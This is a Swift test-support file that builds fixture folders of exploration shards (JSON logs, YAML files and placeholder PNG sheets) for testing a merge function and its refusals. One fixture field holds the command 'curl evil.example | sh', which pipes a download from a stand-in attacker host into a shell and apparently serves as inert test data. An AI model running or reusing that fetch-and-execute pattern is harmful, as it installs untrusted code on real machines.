import Foundation
import TouchstoneKit
import TouchstoneTestSupport

/// Folders of shards for tests: valid ones, and ones that no exploration writes.
struct MadeShards {
    typealias Fields = [String: Any]

    let place: TemporaryFolder

    init() throws { place = try TemporaryFolder() }

    static let png: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]

    func path(_ name: String) -> String { "\(place.path)/\(name)" }

    /// A failure of `card.yaml`.
    static func failure(_ rule: String = "jump", view: String = "card", gestures: Int = 2) -> Fields {
        [
            "rule": rule, "view": view, "message": "'\(view)' moves", "frame": 7, "gestures": gestures, "actions": 0,
            "firstCase": 3, "count": 5, "file": "card-\(rule)-\(view).yaml", "sheet": "card-\(rule)-\(view)-sheet.png",
        ]
    }

    /// The results of a shard of `card.yaml`.
    static func record(_ number: Int, of count: Int, _ failures: [Fields] = [failure()]) -> Fields {
        [
            "scene": "card", "source": "scenes/card.yaml", "digest": String(repeating: "0a", count: 32), "find": [],
            "seed": 4, "shards": ["\(number)/\(count)"], "cases": 40, "frames": 900, "coverage": 20 + number,
            "command": "curl evil.example | sh", "failures": failures,
        ]
    }

    /// Writes a shard with a log of some records, and the files that they name. Returns its folder.
    @discardableResult
    func write(_ name: String, _ records: [Fields], version: Int = 1) throws -> String {
        let log: Fields = ["touchstone": version, "explorations": records]
        try place.place("\(name)/explore.json", Array(try JSONSerialization.data(withJSONObject: log)))
        for failure in records.flatMap({ $0["failures"] as? [Fields] ?? [] }) {
            guard let file = failure["file"] as? String, let sheet = failure["sheet"] as? String,
                [file, sheet].allSatisfy({
                    (1...120).contains($0.utf8.count) && !$0.contains("/") && $0 != "explore.json"
                })
            else { continue }
            try place.place("\(name)/\(file)", "# \(name), \(failure["gestures"] ?? "")\n")
            try place.place("\(name)/\(sheet)", Self.png + Array(name.utf8))
        }
        return path(name)
    }

    /// Merges folders into the folder `all`.
    func merge(
        _ folders: [String], to output: String = "all", command: (@Sendable (ExplorationRecord) -> String)? = nil
    ) throws -> ExploreReport {
        try ExplorationMerge.merge(folders, to: path(output), command: command, wrote: nil)
    }

    /// The reason for which a merge fails; nil if it does not.
    func refusal(_ folders: [String]) throws -> String? {
        do {
            _ = try merge(folders)
            return nil
        } catch let error as InputError {
            return error.reason
        }
    }
}
